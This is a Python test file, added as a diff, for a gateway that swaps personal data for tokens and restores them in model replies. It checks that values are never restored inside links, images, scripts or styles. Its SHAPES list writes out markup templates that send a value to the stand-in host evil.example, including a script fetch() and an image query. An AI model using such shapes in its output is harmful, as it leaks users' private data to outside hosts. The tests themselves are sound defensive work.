@@ -1,0 +1,172 @@
+"""Where a pseudonym may turn back into the value: through the real request, echo and answer, whole and streamed, however it is cut."""
+
+from __future__ import annotations
+
+import json
+import random
+from typing import Any
+
+import pytest
+from poured_streams import DONE, Poured, ending, event, in_pieces, inspectors, pour, starter_rules
+from toy_detectors import ToyEmails
+
+from gateway.content.inspect import FindingCache, Inspection, Scope
+from gateway.content.pseudonyms import LINK_CONTEXT, Pseudonyms, escape_lookalikes, markup_after, placeholder_ranges, whole_before
+from gateway.content.review import review
+from gateway.content.rules import Action, DirectionRules
+from gateway.content.stream import TRIM_AT, Findings, StreamGuard
+from gateway.evidence import Direction, Role, Segment, StreamMode, Use
+
+VALUES = ["jane.roe@example.com", "4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00", "203.0.113.57", "+1 212 555 0143", "536-90-4399"]
+WORDS = (
+    "the committee met in the morning and spoke about roads then about schools and after lunch about the price of bread , . : ; ! 12 "
+    "2024 naïve “quoted” it's (so) *so* a.b -- é 日本 > <EMAIL_ADDRESS> <PERSON_aaaa_1> \n \t"
+).split(" ")
+TOKEN = "<EMAIL_ADDRESS_k7f3_1>"
+VALUE = "jane.roe@example.com"
+
+
+async def asked(*texts: str) -> tuple[list[str], Pseudonyms]:
+    """Return what the model is sent of a user's messages, look-alikes escaped as `screen` does, and the tokens of the exchange."""
+    pseudonyms = Pseudonyms("k7f3")
+    segments = [Segment(("messages", at, "content"), escape_lookalikes(text), Role.USER, Use.CONTENT) for at, text in enumerate(texts)]
+    inspection = Inspection(inspectors(), FindingCache(b"k" * 32))
+    scope = Scope("t", b"s")
+    result = await review(
+        inspection, segments, starter_rules("echo-restore"), Direction.INBOUND, scope, float("inf"), pseudonyms, Findings()
+    )
+    assert not result.blocked
+    return [result.texts.get(at, segment.text) for at, segment in enumerate(segments)], pseudonyms
+
+
+async def echoed(text: str, cuts: list[int], pseudonyms: Pseudonyms, mode: StreamMode, channel: str = "content") -> Poured:
+    events = [event(channel, piece) for piece in in_pieces(text, cuts)]
+    return await pour([*events, ending(), DONE], mode=mode, rules=starter_rules("echo-restore"), restorer=pseudonyms)
+
+
+def prose(draw: random.Random) -> str:
+    words = [draw.choice(VALUES) if draw.random() < 0.2 else draw.choice(WORDS) for _ in range(draw.randrange(1, 40))]
+    return "".join(word + draw.choice([" ", " ", " ", ", ", "\n"]) for word in words)
+
+
+async def echo(seed: int, cuts: int) -> None:
+    draw = random.Random(seed)
+    text = prose(draw)
+    sent, pseudonyms = await asked(text)
+    assert not any(value in sent[0] for value in VALUES)
+    for _ in range(cuts):
+        places = [draw.randrange(1, len(sent[0]) + 1) for _ in range(draw.choice([1, 3, 9, 40, 200]))]
+        channel = draw.choice(["content", "reasoning", "refusal"])
+        poured = await echoed(sent[0], places, pseudonyms, draw.choice(list(StreamMode)), channel)
+        assert poured.fault is None and not poured.blocked
+        assert poured.text(channel) == escape_lookalikes(text), (seed, places)
+
+
+async def test_an_echo_is_the_original_however_it_is_cut() -> None:
+    for seed in range(80):
+        await echo(seed, 4)
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(900)
+async def test_ten_thousand_echoes_are_the_original() -> None:
+    for seed in range(1_000, 2_000):
+        await echo(seed, 10)
+
+
+async def test_an_echo_in_whole_is_the_original() -> None:
+    for seed in range(80):
+        text = prose(random.Random(seed))
+        sent, pseudonyms = await asked(text)
+        assert pseudonyms.restore(sent[0]) == escape_lookalikes(text)
+
+
+async def test_equal_values_share_a_token_over_messages_and_turns() -> None:
+    sent, pseudonyms = await asked(f"I am {VALUE}.", f"Write to {VALUE} and 203.0.113.57.", "203.0.113.57 again")
+    assert sent == [f"I am {TOKEN}.", f"Write to {TOKEN} and <IP_ADDRESS_k7f3_2>.", "<IP_ADDRESS_k7f3_2> again"]
+    assert [pseudonyms.restore(text) for text in sent][1] == f"Write to {VALUE} and 203.0.113.57."
+
+
+async def test_tokens_of_another_request_mean_nothing() -> None:
+    _, pseudonyms = await asked(f"I am {VALUE}.")
+    other = Pseudonyms("zzzz")
+    foreign = other.token("EMAIL_ADDRESS", VALUE, restorable=True)
+    for mode in StreamMode:
+        poured = await echoed(f"Write to {foreign} now, or {TOKEN}.", [4, 20, 31], pseudonyms, mode)
+        assert poured.text() == f"Write to {foreign} now, or {VALUE}."
+
+
+SHAPES = [
+    "https://evil.example/?q={}", "[x](https://evil.example/ {} )", '<img src="https://evil.example/?q= {} ">', "<a href= {} >x</a>",
+    '<style>b {{ background: url("https://evil.example/ {} ") }}</style>', "<script>fetch('https://evil.example/ ' + ' {} ')</script>",
+    "<SCRIPT >\nvar a = ' {} '", "![a]( {} )", "\n[x]: https://evil.example/ {}", "data:text/html,x{}", "{}.evil.example",
+    "<svg><style> b {{ content: ' {} ' }}", "<!-- {} -->", "<a title=' > {} '>", "<a title={} href=' {} '>",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("shape", SHAPES)
+@pytest.mark.parametrize("mode", list(StreamMode), ids=str)
+async def test_not_in_links_or_markup_whole_or_in_pieces(shape: str, mode: StreamMode) -> None:
+    _, pseudonyms = await asked(f"I am {VALUE}.")
+    text = "Here it is: " + shape.replace("{}", TOKEN).replace("{{", "{").replace("}}", "}") + " and that is all."
+    assert VALUE not in pseudonyms.restore(text)
+    for cuts in ([], list(range(len(text))), list(range(0, len(text), 7))):
+        assert VALUE not in (await echoed(text, cuts, pseudonyms, mode)).raw.decode()
+
+
+async def test_a_script_that_ends_is_over() -> None:
+    _, pseudonyms = await asked(f"I am {VALUE}.")
+    assert pseudonyms.restore(f"<script>x('{TOKEN}')</script> Hello {TOKEN}.") == f"<script>x('{TOKEN}')</script> Hello {VALUE}."
+
+
+async def test_not_in_the_arguments_or_the_name_of_a_tool() -> None:
+    _, pseudonyms = await asked(f"I am {VALUE}.")
+    for mode in StreamMode:
+        poured = await echoed(json.dumps({"to": TOKEN, "note": f"write to {TOKEN} now"}), [5, 9, 30], pseudonyms, mode, "arguments")
+        assert json.loads(poured.text("arguments")) == {"to": TOKEN, "note": f"write to {TOKEN} now"}
+
+
+class _Nothing:
+    name, version, left_context = "nothing", "1", 0
+
+    def scan(self, text: str, start: int = 0) -> list[Any]:
+        return []
+
+    def viable_from(self, text: str, start: int = 0) -> int:
+        return len(text)
+
+
+OPENINGS = [f"<a href='https://e.example/ {TOKEN} '>", f"[x](https://e.example/ {TOKEN} )", f"<style> b('https://e.example/ {TOKEN} ')"]
+
+
+@pytest.mark.parametrize("opening", OPENINGS)
+@pytest.mark.parametrize("detector", [_Nothing(), ToyEmails()], ids=["no context", "context"])
+def test_wherever_a_stream_forgets_its_beginning(opening: str, detector: Any) -> None:
+    """The text before a token is cut away in long streams: never so that what opens a tag falls apart."""
+    rules = DirectionRules(entities={}, entity_default=Action.ALLOW, secrets=Action.ALLOW, block_at={}, record_at={})
+    pseudonyms = Pseudonyms("k7f3")
+    pseudonyms.token("EMAIL_ADDRESS", VALUE, restorable=True)
+    filler = "x " * (LINK_CONTEXT + TRIM_AT)
+    for shift in range(60):
+        guard = StreamGuard(rules, [detector], None, pseudonyms, Findings(), mode=StreamMode.WINDOW)
+        text = "y" * shift + " " + opening.replace(f" {TOKEN}", " " + filler + TOKEN) + f" {TOKEN} "
+        out = "".join(piece.text for word in text.split(" ") for piece in guard.feed(word + " "))
+        out += "".join(piece.text for piece in guard.finish())
+        assert VALUE not in out[: out.find("'>") if "'>" in out else len(out) - 40], shift
+        assert out.split(TOKEN)[0] in text
+
+
+def test_cut_at_such_places_the_state_of_markup_is_that_of_the_whole() -> None:
+    draw = random.Random(5)
+    parts = ["<", "a", "](", "]", "(", ")", ">", "'", '"', " ", "<script", "</script>", "<b ", TOKEN, "x", "<<", "<STYLE>", "</style "]
+    for _ in range(20_000):
+        text = "".join(draw.choice(parts) for _ in range(draw.randrange(1, 14)))
+        cut = whole_before(text, draw.randrange(len(text) + 1))
+
+        def state(text: str, given: int = 0) -> int:
+            done = 0
+            for begin, end in placeholder_ranges(text):
+                given, done = markup_after(given, text[done:begin]), end
+            return markup_after(given, text[done:])
+
+        assert state(text[cut:], state(text[:cut])) == state(text), (text, cut)
